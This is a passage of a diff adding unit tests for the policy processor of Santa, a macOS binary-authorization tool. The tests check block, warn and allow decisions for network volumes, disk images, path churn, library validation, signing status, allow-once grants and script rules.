+                               identifierRule:(SNTRule*)identifierRule {
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  struct RuleIdentifiers identifiers = {};
+  OCMStub([mockRuleTable executionRuleForIdentifiers:identifiers])
+      .ignoringNonObjectArgs()
+      .andReturn(identifierRule);
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(SNTClientModeMonitor);
+  OCMStub([mockConfigurator networkVolumeExecutionAction]).andReturn(action);
+  processor.configurator = mockConfigurator;
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+  XCTAssertNotNil(fi);
+  id mockFileInfo = OCMPartialMock(fi);
+  OCMStub([mockFileInfo isOnNetworkVolume]).andReturn(onNetworkVolume);
+  OCMStub([mockFileInfo fileSystemType]).andReturn(onNetworkVolume ? @"smbfs" : @"apfs");
+
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+
+  return [processor decisionForFileInfo:mockFileInfo
+                          targetProcess:&proc
+                            configState:configState
+                     activationCallback:nil
+                         cachedDecision:nil];
+}
+
+- (SNTRule*)allowRuleForLs {
+  SNTRule* rule = [[SNTRule alloc] initWithDictionary:@{
+    @"rule_type" : @"SIGNINGID",
+    @"identifier" : @"platform:com.apple.ls",
+    @"policy" : @"ALLOWLIST"
+  }
+                                                error:nil];
+  XCTAssertNotNil(rule);
+  return rule;
+}
+
+- (void)testNetworkVolumeBlock {
+  SNTCachedDecision* cd = [self decisionOnNetworkVolume:YES
+                                                 action:SNTNetworkVolumeExecutionActionBlock
+                                         identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockNetworkVolume);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Executed from network volume (smbfs)");
+
+  // Rules do not override the block.
+  cd = [self decisionOnNetworkVolume:YES
+                              action:SNTNetworkVolumeExecutionActionBlock
+                      identifierRule:[self allowRuleForLs]];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockNetworkVolume);
+}
+
+- (void)testNetworkVolumeBlockUnknown {
+  SNTCachedDecision* cd =
+      [self decisionOnNetworkVolume:YES
+                             action:SNTNetworkVolumeExecutionActionBlockUnknown
+                     identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockNetworkVolume);
+
+  // Binaries allowed by a rule still run.
+  cd = [self decisionOnNetworkVolume:YES
+                              action:SNTNetworkVolumeExecutionActionBlockUnknown
+                      identifierRule:[self allowRuleForLs]];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+}
+
+- (void)testNetworkVolumeNoAction {
+  SNTCachedDecision* cd = [self decisionOnNetworkVolume:YES
+                                                 action:SNTNetworkVolumeExecutionActionNone
+                                         identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+}
+
+- (void)testLocalVolumeIsUnaffected {
+  SNTCachedDecision* cd = [self decisionOnNetworkVolume:NO
+                                                 action:SNTNetworkVolumeExecutionActionBlock
+                                         identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+
+  cd = [self decisionOnNetworkVolume:NO
+                              action:SNTNetworkVolumeExecutionActionBlockUnknown
+                      identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+}
+
+#pragma mark Disk Images
+
+// Evaluates /bin/ls as if it were executed from a mounted disk image (or not),
+// with an optional identifier rule.
+- (SNTCachedDecision*)decisionOnDiskImage:(BOOL)onDiskImage
+                              quarantined:(BOOL)quarantined
+                                   action:(SNTDiskImageExecutionAction)action
+                          quarantinedOnly:(BOOL)quarantinedOnly
+                           identifierRule:(SNTRule*)identifierRule {
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  struct RuleIdentifiers identifiers = {};
+  OCMStub([mockRuleTable executionRuleForIdentifiers:identifiers])
+      .ignoringNonObjectArgs()
+      .andReturn(identifierRule);
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(SNTClientModeMonitor);
+  OCMStub([mockConfigurator diskImageExecutionAction]).andReturn(action);
+  OCMStub([mockConfigurator diskImageExecutionQuarantinedOnly]).andReturn(quarantinedOnly);
+  processor.configurator = mockConfigurator;
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+  XCTAssertNotNil(fi);
+  id mockFileInfo = OCMPartialMock(fi);
+  OCMStub([mockFileInfo isOnDiskImage]).andReturn(onDiskImage);
+  OCMStub([mockFileInfo isOnQuarantinedDiskImage]).andReturn(onDiskImage && quarantined);
+
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+
+  return [processor decisionForFileInfo:mockFileInfo
+                          targetProcess:&proc
+                            configState:configState
+                     activationCallback:nil
+                         cachedDecision:nil];
+}
+
+- (void)testDiskImageBlock {
+  SNTCachedDecision* cd = [self decisionOnDiskImage:YES
+                                        quarantined:NO
+                                             action:SNTDiskImageExecutionActionBlock
+                                    quarantinedOnly:NO
+                                     identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockDiskImage);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Executed from disk image");
+  XCTAssertTrue(cd.onDiskImage);
+
+  // Rules do not override the block.
+  cd = [self decisionOnDiskImage:YES
+                     quarantined:YES
+                          action:SNTDiskImageExecutionActionBlock
+                 quarantinedOnly:NO
+                  identifierRule:[self allowRuleForLs]];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockDiskImage);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Executed from quarantined disk image");
+}
+
+- (void)testDiskImageBlockUnknown {
+  SNTCachedDecision* cd = [self decisionOnDiskImage:YES
+                                        quarantined:NO
+                                             action:SNTDiskImageExecutionActionBlockUnknown
+                                    quarantinedOnly:NO
+                                     identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockDiskImage);
+
+  // Binaries allowed by a rule still run.
+  cd = [self decisionOnDiskImage:YES
+                     quarantined:NO
+                          action:SNTDiskImageExecutionActionBlockUnknown
+                 quarantinedOnly:NO
+                  identifierRule:[self allowRuleForLs]];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+  XCTAssertTrue(cd.onDiskImage);
+}
+
+- (void)testDiskImageQuarantinedOnly {
+  SNTCachedDecision* cd = [self decisionOnDiskImage:YES
+                                        quarantined:NO
+                                             action:SNTDiskImageExecutionActionBlock
+                                    quarantinedOnly:YES
+                                     identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+  XCTAssertTrue(cd.onDiskImage);
+
+  cd = [self decisionOnDiskImage:YES
+                     quarantined:YES
+                          action:SNTDiskImageExecutionActionBlock
+                 quarantinedOnly:YES
+                  identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockDiskImage);
+}
+
+- (void)testDiskImageWarn {
+  SNTCachedDecision* cd = [self decisionOnDiskImage:YES
+                                        quarantined:YES
+                                             action:SNTDiskImageExecutionActionWarn
+                                    quarantinedOnly:NO
+                                     identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+  XCTAssertTrue(cd.onDiskImage);
+}
+
+- (void)testNormalPathIsNotOnDiskImage {
+  SNTCachedDecision* cd = [self decisionOnDiskImage:NO
+                                        quarantined:NO
+                                             action:SNTDiskImageExecutionActionBlock
+                                    quarantinedOnly:NO
+                                     identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+  XCTAssertFalse(cd.onDiskImage);
+
+  cd = [self decisionOnDiskImage:NO
+                     quarantined:NO
+                          action:SNTDiskImageExecutionActionBlockUnknown
+                 quarantinedOnly:NO
+                  identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+}
+
+#pragma mark Path Churn
+
+// Evaluates /bin/ls count times as if it were rewritten with a new SHA-256 before each
+// execution, with a PathChurnThreshold of 3 and an optional identifier rule.
+- (NSArray<SNTCachedDecision*>*)decisionsForRewrites:(int)count
+                                              action:(SNTPathChurnExecutionAction)action
+                                      identifierRule:(SNTRule*)identifierRule {
+  id mockTracker = OCMClassMock([SNTPathChurnTracker class]);
+  OCMStub([mockTracker sharedTracker])
+      .andReturn([[SNTPathChurnTracker alloc] initWithCapacity:16]);
+
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  struct RuleIdentifiers identifiers = {};
+  OCMStub([mockRuleTable executionRuleForIdentifiers:identifiers])
+      .ignoringNonObjectArgs()
+      .andReturn(identifierRule);
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(SNTClientModeMonitor);
+  OCMStub([mockConfigurator pathChurnExecutionAction]).andReturn(action);
+  OCMStub([mockConfigurator pathChurnThreshold]).andReturn(3);
+  OCMStub([mockConfigurator pathChurnWindowSeconds]).andReturn(3600);
+  processor.configurator = mockConfigurator;
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+
+  NSMutableArray<SNTCachedDecision*>* decisions = [NSMutableArray array];
+  for (int i = 0; i < count; i++) {
+    SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+    XCTAssertNotNil(fi);
+    id mockFileInfo = OCMPartialMock(fi);
+    OCMStub([mockFileInfo SHA256]).andReturn(([NSString stringWithFormat:@"%064x", i]));
+
+    [decisions addObject:[processor decisionForFileInfo:mockFileInfo
+                                          targetProcess:&proc
+                                            configState:configState
+                                     activationCallback:nil
+                                         cachedDecision:nil]];
+  }
+
+  [mockTracker stopMocking];
+  return decisions;
+}
+
+- (void)testPathChurnBlockUnknown {
+  NSArray<SNTCachedDecision*>* decisions =
+      [self decisionsForRewrites:5
+                          action:SNTPathChurnExecutionActionBlockUnknown
+                  identifierRule:nil];
+
+  // The first execution isn't a change, and two changes are below the threshold.
+  for (int i = 0; i < 3; i++) {
+    XCTAssertEqual(decisions[i].decision, SNTEventStateAllowUnknown);
+    XCTAssertEqual(decisions[i].pathChurnCount, i);
+  }
+  XCTAssertEqual(decisions[3].decision, SNTEventStateBlockPathChurn);
+  XCTAssertEqualObjects(decisions[3].decisionExtra, @"Binary at this path changed 3 times");
+  XCTAssertEqual(decisions[4].decision, SNTEventStateBlockPathChurn);
+  XCTAssertEqual(decisions[4].pathChurnCount, 4);
+
+  // Binaries allowed by a rule still run.
+  decisions = [self decisionsForRewrites:5
+                                  action:SNTPathChurnExecutionActionBlockUnknown
+                          identifierRule:[self allowRuleForLs]];
+  XCTAssertEqual(decisions[4].decision, SNTEventStateAllowSigningID);
+  XCTAssertEqual(decisions[4].pathChurnCount, 4);
+}
+
+- (void)testPathChurnBlock {
+  // Rules do not override the block.
+  NSArray<SNTCachedDecision*>* decisions =
+      [self decisionsForRewrites:4
+                          action:SNTPathChurnExecutionActionBlock
+                  identifierRule:[self allowRuleForLs]];
+  XCTAssertEqual(decisions[2].decision, SNTEventStateAllowSigningID);
+  XCTAssertEqual(decisions[3].decision, SNTEventStateBlockPathChurn);
+  XCTAssertEqual(decisions[3].pathChurnCount, 3);
+}
+
+- (void)testPathChurnWarn {
+  NSArray<SNTCachedDecision*>* decisions =
+      [self decisionsForRewrites:4 action:SNTPathChurnExecutionActionWarn identifierRule:nil];
+  XCTAssertEqual(decisions[3].decision, SNTEventStateAllowUnknown);
+  XCTAssertEqual(decisions[3].pathChurnCount, 3);
+}
+
+- (void)testPathChurnNotTrackedWhenUnset {
+  NSArray<SNTCachedDecision*>* decisions =
+      [self decisionsForRewrites:4 action:SNTPathChurnExecutionActionNone identifierRule:nil];
+  XCTAssertEqual(decisions[3].decision, SNTEventStateAllowUnknown);
+  XCTAssertEqual(decisions[3].pathChurnCount, 0);
+}
+
+#pragma mark Library Validation
+
+// Evaluates /bin/ls with the given code signing flags against a single allow
+// rule of the given type.
+- (SNTCachedDecision*)decisionWithFlags:(uint32_t)flags
+                               ruleType:(NSString*)ruleType
+             requireLibraryValidation:(BOOL)requireLibraryValidation {
+  NSString* identifier =
+      [ruleType isEqualToString:@"TEAMID"] ? @"EQHXZ8M8AV" : @"platform:com.apple.ls";
+  SNTRule* rule = [[SNTRule alloc] initWithDictionary:@{
+    @"rule_type" : ruleType,
+    @"identifier" : identifier,
+    @"policy" : @"ALLOWLIST"
+  }
+                                                error:nil];
+  XCTAssertNotNil(rule);
+
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  struct RuleIdentifiers identifiers = {};
+  OCMStub([mockRuleTable executionRuleForIdentifiers:identifiers])
+      .ignoringNonObjectArgs()
+      .andReturn(rule);
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(SNTClientModeLockdown);
+  OCMStub([mockConfigurator requireLibraryValidationForTeamIDRules])
+      .andReturn(requireLibraryValidation);
+  processor.configurator = mockConfigurator;
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
   SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
   XCTAssertNotNil(fi);
 
   es_file_t file = MakeESFile("/bin/ls");
   es_process_t proc = MakeESProcess(&file);
-  proc.is_platform_binary = isPlatformBinary;
+  proc.codesigning_flags = flags;
+
+  return [processor decisionForFileInfo:fi
+                          targetProcess:&proc
+                            configState:configState
+                     activationCallback:nil
+                         cachedDecision:nil];
+}
+
+- (void)testTeamIDAllowedWithoutLibraryValidationIsBlocked {
+  SNTCachedDecision* cd = [self decisionWithFlags:CS_SIGNED | CS_VALID | CS_RUNTIME
+                                         ruleType:@"TEAMID"
+                         requireLibraryValidation:YES];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockTeamID);
+  XCTAssertEqualObjects(cd.decisionExtra, @"TeamID rule requires library validation");
+}
+
+- (void)testTeamIDAllowedWithLibraryValidationIsAllowed {
+  SNTCachedDecision* cd = [self decisionWithFlags:CS_SIGNED | CS_VALID | CS_RUNTIME | CS_REQUIRE_LV
+                                         ruleType:@"TEAMID"
+                         requireLibraryValidation:YES];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowTeamID);
+  XCTAssertEqual(cd.codesigningFlags & CS_REQUIRE_LV, CS_REQUIRE_LV);
+}
+
+- (void)testLibraryValidationNotRequiredByDefault {
+  SNTCachedDecision* cd = [self decisionWithFlags:CS_SIGNED | CS_VALID
+                                         ruleType:@"TEAMID"
+                         requireLibraryValidation:NO];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowTeamID);
+}
+
+- (void)testLibraryValidationOnlyRequiredForTeamIDRules {
+  SNTCachedDecision* cd = [self decisionWithFlags:CS_SIGNED | CS_VALID
+                                         ruleType:@"SIGNINGID"
+                         requireLibraryValidation:YES];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+}
+
+#pragma mark Signing Status
+
+// Evaluates /bin/ls with the given code signing flags, which determine the
+// signing status, with an optional identifier rule. The configured action only
+// applies to binaries with the given signing status.
+- (SNTCachedDecision*)decisionWithSigningFlags:(uint32_t)csFlags
+                                        action:(SNTSigningStatusExecutionAction)action
+                              forSigningStatus:(SNTSigningStatus)status
+                                identifierRule:(SNTRule*)identifierRule {
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  struct RuleIdentifiers identifiers = {};
+  OCMStub([mockRuleTable executionRuleForIdentifiers:identifiers])
+      .ignoringNonObjectArgs()
+      .andReturn(identifierRule);
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(SNTClientModeMonitor);
+  OCMStub([mockConfigurator executionActionForSigningStatus:status]).andReturn(action);
+  processor.configurator = mockConfigurator;
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+  XCTAssertNotNil(fi);
+
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = csFlags;
+
+  return [processor decisionForFileInfo:fi
+                          targetProcess:&proc
+                            configState:configState
+                     activationCallback:nil
+                         cachedDecision:nil];
+}
+
+- (void)testSigningStatusClassification {
+  std::map<uint32_t, SNTSigningStatus> flagsToStatus = {
+      {0, SNTSigningStatusUnsigned},
+      {CS_SIGNED, SNTSigningStatusInvalid},
+      {CS_SIGNED | CS_VALID | CS_ADHOC, SNTSigningStatusAdhoc},
+      {CS_SIGNED | CS_VALID | CS_DEV_CODE, SNTSigningStatusDevelopment},
+      {CS_SIGNED | CS_VALID, SNTSigningStatusProduction},
+  };
+
+  for (const auto& [flags, status] : flagsToStatus) {
+    SNTCachedDecision* cd = [self decisionWithSigningFlags:flags
+                                                    action:SNTSigningStatusExecutionActionNone
+                                          forSigningStatus:status
+                                            identifierRule:nil];
+    XCTAssertEqual(cd.signingStatus, status, @"Unexpected status for flags 0x%x", flags);
+    XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+  }
+}
+
+- (void)testSigningStatusBlock {
+  std::map<uint32_t, std::pair<SNTSigningStatus, NSString*>> flagsToStatus = {
+      {0, {SNTSigningStatusUnsigned, @"unsigned"}},
+      {CS_SIGNED, {SNTSigningStatusInvalid, @"invalid"}},
+      {CS_SIGNED | CS_VALID | CS_ADHOC, {SNTSigningStatusAdhoc, @"adhoc"}},
+  };
+
+  for (const auto& [flags, statusAndName] : flagsToStatus) {
+    SNTCachedDecision* cd = [self decisionWithSigningFlags:flags
+                                                    action:SNTSigningStatusExecutionActionBlock
+                                          forSigningStatus:statusAndName.first
+                                            identifierRule:nil];
+    XCTAssertEqual(cd.decision, SNTEventStateBlockCertificate);
+    XCTAssertEqualObjects(
+        cd.decisionExtra,
+        ([NSString stringWithFormat:@"Blocked due to signing status: %@", statusAndName.second]));
+
+    // Rules do not override the block.
+    cd = [self decisionWithSigningFlags:flags
+                                 action:SNTSigningStatusExecutionActionBlock
+                       forSigningStatus:statusAndName.first
+                         identifierRule:[self allowRuleForLs]];
+    XCTAssertEqual(cd.decision, SNTEventStateBlockCertificate);
+  }
+}
+
+- (void)testSigningStatusBlockUnknown {
+  SNTCachedDecision* cd =
+      [self decisionWithSigningFlags:CS_SIGNED
+                              action:SNTSigningStatusExecutionActionBlockUnknown
+                    forSigningStatus:SNTSigningStatusInvalid
+                      identifierRule:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockCertificate);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Blocked due to signing status: invalid");
+
+  // Binaries allowed by a rule still run.
+  cd = [self decisionWithSigningFlags:CS_SIGNED
+                               action:SNTSigningStatusExecutionActionBlockUnknown
+                     forSigningStatus:SNTSigningStatusInvalid
+                       identifierRule:[self allowRuleForLs]];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+}
+
+- (void)testSigningStatusActionOnlyAppliesToConfiguredStatus {
+  // Invalid signatures are blocked but unsigned and validly signed binaries are not.
+  SNTCachedDecision* cd = [self decisionWithSigningFlags:0
+                                                  action:SNTSigningStatusExecutionActionBlock
+                                        forSigningStatus:SNTSigningStatusInvalid
+                                          identifierRule:nil];
+  XCTAssertEqual(cd.signingStatus, SNTSigningStatusUnsigned);
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+
+  cd = [self decisionWithSigningFlags:CS_SIGNED | CS_VALID
+                               action:SNTSigningStatusExecutionActionBlock
+                     forSigningStatus:SNTSigningStatusInvalid
+                       identifierRule:nil];
+  XCTAssertEqual(cd.signingStatus, SNTSigningStatusProduction);
+  XCTAssertEqual(cd.decision, SNTEventStateAllowUnknown);
+}
+
+- (void)testAllowOnceGrantAllowsOneExecution {
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(SNTClientModeLockdown);
+  OCMStub([mockConfigurator persistConsumedAllowOnceTokens:[OCMArg any]]).andReturn(YES);
+  processor.configurator = mockConfigurator;
+  processor.allowOnceStore = [[SNTAllowOnceStore alloc] initWithConfigurator:mockConfigurator];
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
+  XCTAssertTrue([processor.allowOnceStore addGrantForRule:[self allowRuleForLs]
+                                                  tokenID:@"t1"
+                                           expirationDate:[NSDate dateWithTimeIntervalSinceNow:300]
+                                                    error:nil]);
+
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+
+  SNTCachedDecision* cd = [processor decisionForFileInfo:fi
+                                           targetProcess:&proc
+                                             configState:configState
+                                      activationCallback:nil
+                                          cachedDecision:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowOnce);
+  XCTAssertFalse(cd.cacheable);
+
+  // The grant was consumed by the first execution.
+  cd = [processor decisionForFileInfo:fi
+                        targetProcess:&proc
+                          configState:configState
+                   activationCallback:nil
+                       cachedDecision:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockUnknown);
+}
+
+- (void)testRequirementRuleBeatsAllowOnceGrant {
+  __block NSArray<SNTRule*>* requirementRules =
+      @[ [self requirementRule:@"anchor apple and identifier \"com.apple.ls\""
+                        policy:@"BLOCKLIST"] ];
+  id mockRuleTable = OCMClassMock([SNTRuleTable class]);
+  OCMStub([mockRuleTable requirementRules]).andDo(^(NSInvocation* inv) {
+    __unsafe_unretained NSArray* rules = requirementRules;
+    [inv setReturnValue:&rules];
+  });
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:mockRuleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator clientMode]).andReturn(SNTClientModeLockdown);
+  OCMStub([mockConfigurator persistConsumedAllowOnceTokens:[OCMArg any]]).andReturn(YES);
+  processor.configurator = mockConfigurator;
+  processor.allowOnceStore = [[SNTAllowOnceStore alloc] initWithConfigurator:mockConfigurator];
+  SNTConfigState* configState = [[SNTConfigState alloc] initWithConfig:mockConfigurator];
+
+  XCTAssertTrue([processor.allowOnceStore addGrantForRule:[self allowRuleForLs]
+                                                  tokenID:@"t1"
+                                           expirationDate:[NSDate dateWithTimeIntervalSinceNow:300]
+                                                    error:nil]);
+
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/ls"];
+  es_file_t file = MakeESFile("/bin/ls");
+  es_process_t proc = MakeESProcess(&file);
+  proc.codesigning_flags = CS_SIGNED | CS_VALID;
+
+  SNTCachedDecision* cd = [processor decisionForFileInfo:fi
+                                           targetProcess:&proc
+                                             configState:configState
+                                      activationCallback:nil
+                                          cachedDecision:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateBlockRequirement);
+
+  // The block rule didn't use up the grant, which still applies once the rule is gone.
+  requirementRules = @[];
+  cd = [processor decisionForFileInfo:fi
+                        targetProcess:&proc
+                          configState:configState
+                   activationCallback:nil
+                       cachedDecision:nil];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowOnce);
+}
+
+#pragma mark Script evaluation
+
+- (SNTFileInfo*)scriptWithBody:(NSString*)body {
+  NSString* path =
+      [NSTemporaryDirectory() stringByAppendingPathComponent:[NSUUID UUID].UUIDString];
+  NSString* contents = [NSString stringWithFormat:@"#!/bin/sh\n%@\n", body];
+  XCTAssertTrue([contents writeToFile:path
+                           atomically:YES
+                             encoding:NSUTF8StringEncoding
+                                error:nil]);
+  [self addTeardownBlock:^{
+    [[NSFileManager defaultManager] removeItemAtPath:path error:nil];
+  }];
+
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:path];
+  XCTAssertTrue(fi.isScript);
+  return fi;
+}
+
+// The decision for /bin/sh itself, as made for a shebang exec before the
+// script is considered.
+- (SNTCachedDecision*)interpreterDecisionWithProcessor:(SNTPolicyProcessor*)processor {
+  SNTFileInfo* fi = [[SNTFileInfo alloc] initWithPath:@"/bin/sh"];
+  XCTAssertNotNil(fi);
+
+  es_file_t file = MakeESFile("/bin/sh");
+  es_process_t proc = MakeESProcess(&file);
+  proc.is_platform_binary = true;
   proc.codesigning_flags = CS_SIGNED | CS_VALID;
 
   SNTConfigState* configState =
@@ -1685,19 +2980,125 @@ BOOL RuleIdentifiersAreEqual(struct RuleIdentifiers r1, struct RuleIdentifiers r
                          cachedDecision:nil];
 }
 
-- (void)testDecisionAllowsPlatformBinary {
-  SNTCachedDecision* cd = [self decisionForPlatformBinary:YES];
+- (void)testScriptRuleBlocksScriptButNotInterpreter {
+  SNTRuleTable* ruleTable =
+      [[SNTRuleTable alloc] initWithDatabaseQueue:[[FMDatabaseQueue alloc] init]];
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:ruleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  SNTFileInfo* blockedScript = [self scriptWithBody:@"echo blocked"];
+  SNTFileInfo* otherScript = [self scriptWithBody:@"echo other"];
+  SNTRule* rule = [[SNTRule alloc] initWithIdentifier:blockedScript.SHA256
+                                                state:SNTRuleStateBlock
+                                                 type:SNTRuleTypeBinary
+                                            customMsg:@"Not this script"
+                                            customURL:nil
+                                              celExpr:nil
+                                       seatbeltPolicy:nil
+                                               ruleId:7];
+  XCTAssertTrue([ruleTable addExecutionRules:@[ rule ] ruleCleanup:SNTRuleCleanupNone errors:nil]);
+
+  // The interpreter is allowed, as is any script without a rule.
+  SNTCachedDecision* cd = [self interpreterDecisionWithProcessor:processor];
   XCTAssertEqual(cd.decision, SNTEventStateAllowPlatform);
-  XCTAssertEqualObjects(cd.decisionExtra, @"Platform Binary");
+  XCTAssertFalse([processor applyScriptRuleForScript:otherScript decision:cd]);
+  XCTAssertEqual(cd.decision, SNTEventStateAllowPlatform);
+  XCTAssertEqualObjects(cd.scriptSHA256, otherScript.SHA256);
+  XCTAssertFalse(cd.cacheable);
+
+  // The blocked script is blocked even though its interpreter is allowed.
+  cd = [self interpreterDecisionWithProcessor:processor];
+  XCTAssertTrue([processor applyScriptRuleForScript:blockedScript decision:cd]);
+  XCTAssertEqual(cd.decision, SNTEventStateBlockBinary);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Script blocked by rule");
+  XCTAssertEqualObjects(cd.customMsg, @"Not this script");
+  XCTAssertEqual(cd.ruleId, 7LL);
+  XCTAssertEqualObjects(cd.sha256, [[SNTFileInfo alloc] initWithPath:@"/bin/sh"].SHA256);
+  XCTAssertFalse(cd.cacheable);
 }
 
-- (void)testDecisionDoesNotApplyPlatformBinaryToNonPlatformBinaries {
-  SNTCachedDecision* cd = [self decisionForPlatformBinary:NO];
-  XCTAssertNotEqual(cd.decision, SNTEventStateAllowPlatform);
-  XCTAssertNotEqualObjects(cd.decisionExtra, @"Platform Binary");
+- (void)testScriptAllowRuleOnlyOverridesUnknownInterpreter {
+  SNTRuleTable* ruleTable =
+      [[SNTRuleTable alloc] initWithDatabaseQueue:[[FMDatabaseQueue alloc] init]];
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:ruleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  SNTFileInfo* script = [self scriptWithBody:@"echo allowed"];
+  SNTRule* rule = [[SNTRule alloc] initWithIdentifier:script.SHA256
+                                                state:SNTRuleStateAllow
+                                                 type:SNTRuleTypeBinary
+                                            customMsg:nil
+                                            customURL:nil
+                                              celExpr:nil
+                                       seatbeltPolicy:nil
+                                               ruleId:0];
+  XCTAssertTrue([ruleTable addExecutionRules:@[ rule ] ruleCleanup:SNTRuleCleanupNone errors:nil]);
+
+  SNTCachedDecision* cd = [[SNTCachedDecision alloc] init];
+  cd.decision = SNTEventStateBlockUnknown;
+  cd.holdAndAsk = YES;
+  XCTAssertTrue([processor applyScriptRuleForScript:script decision:cd]);
